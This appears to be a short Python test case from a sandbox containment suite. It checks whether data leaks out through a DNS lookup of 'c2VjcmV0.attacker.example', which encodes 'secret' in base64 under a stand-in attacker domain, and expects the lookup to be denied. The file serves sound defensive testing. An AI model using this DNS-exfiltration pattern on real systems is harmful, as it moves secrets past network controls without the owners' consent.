# hostile: leaks data through a DNS lookup of a name no rule names
# status: ok
# stdout: contained
# denied: 1

import socket
try:
    socket.getaddrinfo("c2VjcmV0.attacker.example", 443)
    print("ESCAPED")
except OSError as error:
    print("contained", type(error).__name__)
